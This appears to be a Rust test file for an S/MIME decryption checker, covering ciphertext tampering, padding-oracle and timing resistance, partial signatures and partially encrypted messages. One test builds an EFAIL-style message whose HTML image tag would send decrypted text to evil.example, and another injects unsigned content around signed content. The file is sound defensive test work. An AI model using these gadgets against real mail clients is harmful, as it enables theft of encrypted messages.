//! Encrypted content that was or could have been changed on its way, and encrypted parts that are not the whole.

use super::opened::{check_open, encrypted_mail, entity_of, signed_entity, signed_entity_of};
use super::*;
use crate::cms::content_info::{self, ID_ENVELOPED_DATA};
use crate::smime::tests::finish_keys;

/// Everything that anybody gets to see.
fn seen(inspected: &Inspected) -> String {
    format!(
        "{:?} {:?} {:?} {} {} {} {} {:?} {:?} {:?} {} {} {}",
        inspected.verdict,
        inspected.reasons,
        inspected.warnings,
        inspected.signed,
        inspected.decrypted,
        inspected.covers_whole_message,
        inspected.asked_private_key,
        inspected.layers,
        inspected.opened,
        inspected.deciding,
        report::json(inspected, None),
        report::segel_verdict(inspected),
        report::authentication_results(inspected).join(",")
    )
}

/// Where the ciphertext begins: it is what the object ends with.
fn ciphertext(der: &[u8], length: usize) -> usize {
    der.len() - length
}

#[test]
fn i51_cbc_without_a_signature_is_not_proven_and_nothing_tells_it_from_garbage() {
    let ca = ca();
    // Three blocks and a padding of one octet, so that its last octet decides whether the padding fits.
    let entity = [ENTITY, &vec![b'x'; (16 - ENTITY.len() % 16) + 15]].concat();
    let der = ca.cms(&entity, "-encrypt -aes-128-cbc rsa.pem");
    let start = ciphertext(&der, entity.len() + 1);
    let plain = check_open(&encrypted_mail(SITI, &der), &["rsa"], Verdict::Indeterminate, &[IntegrityUnproven]);
    assert!(plain.opened.is_none() && plain.decrypted && !plain.signed && plain.asked_private_key);
    assert_eq!((plain.layers.len(), plain.layers[0].integrity), (1, Some(Integrity::Unproven)));
    let expected = seen(&plain);
    for at in (start..der.len()).step_by(5).chain([der.len() - 17, der.len() - 1]) {
        for flip in [1, 0x80, 0xff] {
            let mut flipped = der.clone();
            flipped[at] ^= flip;
            assert_eq!(seen(&ca.open(&encrypted_mail(SITI, &flipped), &["rsa"])), expected, "{at} {flip}");
        }
    }
    // Wrong keys: a padding fits for one of 256.
    for octet in 0..=255 {
        let wrong = finish_keys(
            &encrypted_mail(SITI, &der),
            ca.options(),
            |_| Vec::new(),
            &[],
            |_| vec![ContentKey { key: "rsa".to_owned(), octets: Zeroizing::new(vec![octet; 16]) }],
        );
        assert_eq!(seen(&wrong), expected, "{octet}");
    }
}

#[test]
fn i51_cbc_that_was_changed_is_never_shown_although_it_was_signed() {
    let ca = ca();
    for inner in [signed_entity(P256), signed_entity(&format!("{P256} -nodetach"))] {
        let der = ca.cms(&inner, "-encrypt -aes-256-cbc rsa.pem");
        check_open(&encrypted_mail(SITI, &der), &["rsa"], Verdict::Valid, &[]);
        let start = ciphertext(&der, inner.len() / 16 * 16 + 16);
        let mut unlike = Vec::new();
        for at in (start..der.len()).step_by(97) {
            let mut flipped = der.clone();
            flipped[at] ^= 0x20;
            let inspected = ca.open(&encrypted_mail(SITI, &flipped), &["rsa"]);
            assert_eq!((inspected.verdict, &inspected.reasons[..]), (Verdict::Indeterminate, &[IntegrityUnproven][..]));
            assert!(inspected.opened.is_none() && !inspected.signed);
            unlike.push(seen(&inspected));
        }
        unlike.dedup();
        assert_eq!(unlike.len(), 1, "{unlike:#?}");
    }
}

#[test]
fn i52_gcm_that_was_changed_gives_nothing() {
    let ca = ca();
    let inner = signed_entity(P256);
    let der = ca.cms(&inner, "-encrypt -aes-256-gcm rsa.pem");
    let mut seen_all = Vec::new();
    // The tag is the last value.
    for at in (der.len() - 16 - inner.len()..der.len()).step_by(131).chain([der.len() - 1]) {
        let mut flipped = der.clone();
        flipped[at] ^= 1;
        // Not the two octets between ciphertext and tag, which say that a tag follows.
        if (der.len() - 18..der.len() - 16).contains(&at) {
            continue;
        }
        let inspected = check_open(&encrypted_mail(SITI, &flipped), &["rsa"], Verdict::Indeterminate, &[Undecryptable]);
        assert!(inspected.opened.is_none() && !inspected.decrypted && inspected.asked_private_key);
        assert!(inspected.layers.len() == 1 && inspected.layers[0].integrity.is_none());
        seen_all.push(seen(&inspected));
    }
    seen_all.dedup();
    assert_eq!(seen_all.len(), 1);
}

fn tlv(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = match content.len() {
        short @ 0..=0x7f => vec![u8::try_from(short).unwrap()],
        long => [&[0x82][..], &u16::try_from(long).unwrap().to_be_bytes()].concat(),
    };
    [&[tag][..], &length, content].concat()
}

/// The values within one value.
fn children(content: &[u8]) -> Vec<Vec<u8>> {
    let mut rest = content;
    let mut found = Vec::new();
    while !rest.is_empty() {
        let (value, after) = crate::asn1::read_tlv(rest).unwrap();
        found.push(value.whole.to_vec());
        rest = after;
    }
    found
}

fn content_of(whole: &[u8]) -> Vec<u8> {
    crate::asn1::read_tlv(whole).unwrap().0.content.to_vec()
}

#[test]
fn i53_authenticated_data_passed_off_as_cbc() {
    let ca = ca();
    let der = ca.cms(&signed_entity(P256), "-encrypt -aes-256-gcm rsa.pem");
    let outer = children(&content_of(&der));
    let data = content_of(&content_of(&outer[1])[..]);
    let fields = children(&data);
    let run = |fields: &[Vec<u8>], verdict: Verdict, reasons: &[Reason]| {
        let enveloped = content_info::encode(&ID_ENVELOPED_DATA, &tlv(0x30, &fields.concat())).unwrap();
        let inspected = check_open(&encrypted_mail(SITI, &enveloped), &["rsa"], verdict, reasons);
        assert!(inspected.opened.is_none(), "{inspected:?}");
        inspected
    };
    // Under the other name only; the tag is surplus then.
    run(&fields, Verdict::Invalid, &[Malformed]);
    // Without its tag, still by name of GCM.
    run(&fields[..3], Verdict::Indeterminate, &[Unsupported]);
    // As CBC under the same key: whole blocks of the ciphertext, which decrypt to garbage.
    let encrypted = children(&content_of(&fields[2]));
    let cbc = tlv(0x30, &[&hex("060960864801650304012a"), &tlv(0x04, &[3; 16])[..]].concat());
    let octets = content_of(&encrypted[2]);
    let whole = &octets[..octets.len() / 16 * 16];
    let as_cbc = tlv(0x30, &[&encrypted[0][..], &cbc, &tlv(0x80, whole)].concat());
    let inspected = run(&[fields[0].clone(), fields[1].clone(), as_cbc], Verdict::Indeterminate, &[IntegrityUnproven]);
    assert_eq!(inspected.layers.len(), 1);
}

fn hex(text: &str) -> Vec<u8> {
    data_encoding::HEXLOWER.decode(text.as_bytes()).unwrap()
}

/// A signature that anybody could have put around what he can't read proves nothing about the whole.
#[test]
fn i51_only_a_signature_over_all_there_is_proves_it() {
    let ca = ca();
    let signed = signed_entity(P256);
    let inside = |entity: &[u8], reasons: &[Reason]| {
        let message = encrypted_mail(SITI, &ca.cms(entity, "-encrypt -aes-256-cbc rsa.pem"));
        let verdict = if reasons.is_empty() { Verdict::Valid } else { Verdict::of(reasons) };
        let inspected = check_open(&message, &["rsa"], verdict, reasons);
        let proven = inspected.opened.is_some();
        assert_eq!(proven, !reasons.contains(&IntegrityUnproven), "{reasons:?}");
        inspected
    };
    inside(&signed, &[]);
    let epilogue = [&signed[..], b"\r\nwhat nobody has signed\r\n"].concat();
    inside(&epilogue, &[IntegrityUnproven]);
    let mixed = [
        &b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src='\r\n--m\r\n"[..],
        &signed,
        b"\r\n--m--\r\n",
    ]
    .concat();
    inside(&mixed, &[IntegrityUnproven]);
    // A preamble that programs write is text; blocks that do not decrypt to what was meant are not.
    let text = String::from_utf8(signed.clone()).unwrap();
    assert!(text.contains("This is an S/MIME signed message"));
    let smuggled = text.replace("This is an S/MIME", "Th\u{e9}s is an S/MIME");
    inside(smuggled.as_bytes(), &[IntegrityUnproven]);
    inside(text.replace("ini surat", "ini Surat").as_bytes(), &[IntegrityUnproven]);
    inside(&signed_entity(&format!("{P256} -noattr")), &[IntegrityUnproven]);
    inside(&signed_entity(&format!("{P256} -nocerts")), &[IntegrityUnproven]);
    let certificates = entity_of(&ca.openssl("crl2pkcs7 -nocrl -certfile p256.pem -outform DER"));
    inside(&certificates, &[IntegrityUnproven]);
    // Encrypted once more, nothing is proven about the outer one.
    inside(&entity_of(&ca.cms(&signed, "-encrypt -aes-256-cbc rsa.pem")), &[IntegrityUnproven]);
    // Whose signature it is, is another question.
    ca.self_certify("p256", "copy");
    let unknown = inside(&signed_entity("-signer copy.pem -inkey p256.key -md sha256"), &[Untrusted]);
    assert_eq!(unknown.layers[0].integrity, Some(Integrity::SignedInside));
    inside(&signed_entity("-signer budi.pem -inkey budi.key"), &[AddressMismatch]);
}

#[test]
fn i30_a_weak_signature_inside_is_told_and_proves_nothing() {
    let ca = ca();
    let inner = signed_entity("-signer rsa.pem -inkey rsa.key -md sha1");
    let message = encrypted_mail(SITI, &ca.cms(&inner, "-encrypt -aes-256-cbc rsa.pem"));
    let inspected = check_open(&message, &["rsa"], Verdict::Invalid, &[WeakAlgorithm, IntegrityUnproven]);
    assert!(inspected.opened.is_none() && inspected.signed && inspected.layers.len() == 2);
    let options = Options { allow_weak: vec![Digest::Sha1], ..ca.options() };
    let allowed = finish_keys(&message, options, |_| Vec::new(), &[], |need| ca.content_keys(&["rsa"], need));
    assert_eq!((allowed.verdict, allowed.layers[0].integrity), (Verdict::Valid, Some(Integrity::SignedInside)));
}

#[test]
fn i50_an_encrypted_part_beside_others_is_never_opened() {
    let ca = ca();
    let part = entity_of(&ca.cms(ENTITY, "-encrypt -aes-256-gcm rsa.pem"));
    let text = |part: &[u8]| String::from_utf8(part.to_vec()).unwrap();
    let html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
    let mixed = |inside: &str| {
        let body =
            format!("--m\r\n{html}\r\n--m\r\n{inside}\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n");
        mail(SITI, "Content-Type: multipart/mixed; boundary=m\r\n", body.as_bytes())
    };
    let closed = |message: &[u8]| {
        let inspected = ca.open(message, &["rsa"]);
        assert!(!inspected.asked_private_key && !inspected.decrypted && inspected.opened.is_none());
        assert!(inspected.encrypted && inspected.verdict == Verdict::Invalid, "{inspected:?}");
        inspected.reasons
    };
    assert_eq!(closed(&mixed(&text(&part))), [Partial]);
    // Whole within a signature that itself stands beside something.
    assert!(closed(&mixed(&text(&signed_entity_of(&part, P256)))).contains(&Partial));
    // Alone, but in something that has room for more.
    let body = [b"--m\r\n", &part[..], b"\r\n--m--\r\n"].concat();
    assert_eq!(closed(&mail(SITI, "Content-Type: multipart/mixed; boundary=m\r\n", &body)), [Partial]);
    let related =
        [b"--m\r\nContent-Type: multipart/related; boundary=n\r\n\r\n--n\r\n", &part[..], b"\r\n--n--\r\n--m--\r\n"]
            .concat();
    assert_eq!(closed(&mail(SITI, "Content-Type: multipart/alternative; boundary=m\r\n", &related)), [Partial]);
    // Signed outside, with an epilogue.
    let signed = [format!("From: {SITI}\r\n").as_bytes(), &signed_entity_of(&part, P256), b"\r\n\">\r\n"].concat();
    assert!(closed(&signed).contains(&Partial));
    // Two types: one reader shows HTML.
    let part_twice = text(&part).replacen("Content-Transfer", "Content-Type: text/html\r\nContent-Transfer", 1);
    let twice = [format!("From: {SITI}\r\n").as_bytes(), part_twice.as_bytes()].concat();
    assert!(closed(&twice).contains(&Ambiguous));
    let junk = [format!("From: {SITI}\r\n").as_bytes(), &part, b"\r\n-- \r\nA list that adds this.\r\n"].concat();
    assert!(closed(&junk).contains(&Ambiguous));
    // Attached as a message of its own.
    let forwarded = [b"Content-Type: message/rfc822\r\n\r\nFrom: x@example.org\r\n", &part[..]].concat();
    let message = [format!("From: {SITI}\r\n").as_bytes(), &forwarded].concat();
    assert!(!ca.open(&message, &["rsa"]).asked_private_key);
    // Within an encrypted layer that is the whole, it is the same again.
    let outer = ca.cms(&mixed(&text(&part)), "-encrypt -aes-256-gcm rsa.pem");
    let inspected = ca.open(&encrypted_mail(SITI, &outer), &["rsa"]);
    assert!(inspected.layers[0].decrypted && !inspected.layers[1].decrypted);
    assert!(inspected.layers[1].reasons.contains(&Partial));
}

/// How long a key takes over content that was changed does not tell whether its padding fits.
#[test]
fn i60_a_padding_that_fits_takes_no_longer() {
    let ca = ca();
    let line = [&[b'x'; 76][..], b"\r\n"].concat();
    let large = [&b"Content-Type: text/plain\r\n\r\n"[..], &line.repeat((4 << 20) / line.len())].concat();
    let mut inner = signed_entity_of(&large, &format!("{P256} -nodetach"));
    // The padding is one octet.
    inner.extend(vec![b' '; (16 - inner.len() % 16) + 13]);
    inner.extend(b"\r\n");
    let mut fits = ca.cms(&inner, "-encrypt -aes-128-cbc rsa.pem");
    let start = ciphertext(&fits, inner.len() + 1);
    fits[start + (2 << 20)] ^= 1;
    let mut wrong = fits.clone();
    let at = wrong.len() - 17;
    wrong[at] ^= 0x40;
    let messages = [fits, wrong].map(|der| Bytes::from(encrypted_mail(SITI, &der)));
    let begin = |message: &Bytes| match inspect(message.clone(), ca.options()) {
        Step::Need(needs, paused) => (needs, paused),
        Step::Done(inspected) => panic!("no needs: {inspected:?}"),
    };
    let keys = ca.content_keys(&["rsa"], &begin(&messages[0]).0[0]);
    // Nothing in it waits: the work is the time that it takes, and does not depend on what else the machine does.
    let worked = || {
        let now = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
        std::time::Duration::try_from(now).unwrap()
    };
    let median = || {
        let mut took = [Vec::new(), Vec::new()];
        for run in 0..60 {
            let which = (run + run / 2) % 2;
            let (_, paused) = begin(&messages[which]);
            let start = worked();
            let Step::Done(inspected) = paused.resume(vec![Fact::ContentKeys(keys.clone())]) else { panic!("needs") };
            took[which].push((worked() - start).as_secs_f64());
            assert_eq!(inspected.reasons, [IntegrityUnproven]);
        }
        took.map(|mut took| {
            took.sort_by(f64::total_cmp);
            took[took.len() / 2]
        })
    };
    // A machine that does something else as well may need more than one try.
    let unlike = |[fits, wrong]: [f64; 2]| (fits / wrong).max(wrong / fits);
    let tries: Vec<_> = (0..3).map(|_| median()).take_while(|took| unlike(*took) > 1.1).collect();
    assert!(tries.len() < 3, "{tries:?}");
}
